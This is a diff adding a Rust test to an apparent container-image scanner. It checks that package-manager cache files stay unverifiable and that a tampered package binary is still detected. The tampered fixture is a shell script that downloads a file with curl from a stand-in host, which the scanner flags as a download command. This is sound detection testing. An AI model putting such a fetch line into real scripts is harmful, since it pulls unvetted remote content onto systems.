@@ -734,3 +734,53 @@ fn dpkg_shortest_md5sums_line_is_read() {
         x.evidence
     );
 }
+
+/// Issue 16: files where package managers keep their own state and caches
+/// (apt's lists and archives, dpkg's and apk's databases…) get no MD5 or
+/// SHA-1. A package that does claim a file there leaves it `unverifiable`,
+/// never `verified`: its finding keeps its severity. Elsewhere in the same
+/// one-layer image a modified package file is still found.
+#[test]
+fn manager_state_files_are_not_hashed_and_never_verified() {
+    let db = apk_pkg(
+        "fetchtool",
+        "1.2-r0",
+        &[
+            ("usr/bin", "fetch", APK_TOOL),
+            ("var/cache/apk", "fetch", APK_TOOL),
+        ],
+    );
+    let img = ImageBuilder::new().layer(
+        LayerBuilder::new()
+            .file(
+                "usr/bin/fetch",
+                b"#!/bin/sh\ncurl -o /tmp/y http://203.0.113.9/y\n",
+                0o755,
+            )
+            .file("var/cache/apk/fetch", APK_TOOL, 0o755)
+            .file("lib/apk/db/installed", db.as_bytes(), 0o644),
+    );
+    let s = scan_ok(&layout(&img.build()).1);
+    assert_eq!(
+        modified(&s),
+        vec!["/usr/bin/fetch fetchtool"],
+        "{:#?}",
+        codes(&s)
+    );
+    let cached = packaged(&s, "/var/cache/apk/fetch", Code::DownloadCommand);
+    let pkg = cached.package.as_ref().expect("claimed by its package");
+    assert_eq!(pkg.integrity, Integrity::Unverifiable);
+    assert_eq!(cached.severity, Severity::Medium, "{:?}", cached.evidence);
+    assert!(
+        cached
+            .evidence
+            .iter()
+            .any(|e| e.contains("recorded digest is not checked")),
+        "{:?}",
+        cached.evidence
+    );
+    let node =
+        s.fs.get(&stowaway::path::ImagePath::new(b"var/cache/apk/fetch"))
+            .unwrap();
+    assert!(node.entry.pkg.is_none() && node.entry.sha256.is_some());
+}
